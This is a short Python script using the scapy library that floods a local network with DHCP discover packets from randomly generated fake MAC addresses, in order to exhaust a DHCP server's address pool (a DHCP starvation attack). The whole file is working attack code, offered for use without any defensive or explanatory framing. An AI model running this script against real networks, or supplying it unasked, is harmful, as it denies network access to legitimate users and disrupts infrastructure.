#!/usr/bin/env python3
# Asks for addresses in the name of cards that do not exist, until a DHCP server has none left.
from scapy.all import *
import random
import sys

iface = sys.argv[1]
count = int(sys.argv[2])
conf.checkIPaddr = False

seen = set()
while len(seen) < count:
    mac = str(RandMAC("02:*:*:*:*:*"))
    hw = mac2str(mac)
    xid = random.randint(1, 0xffffffff)
    discover = (Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")
                / IP(src="0.0.0.0", dst="255.255.255.255")
                / UDP(sport=68, dport=67)
                / BOOTP(op=1, chaddr=hw, xid=xid, flags=0x8000)
                / DHCP(options=[("message-type", "discover"), ("hostname", "host%d" % len(seen)),
                                ("param_req_list", [1, 3, 6, 15]), "end"]))
    sendp(discover, iface=iface, verbose=False)
    seen.add(mac)
print("asked in %d names" % len(seen))
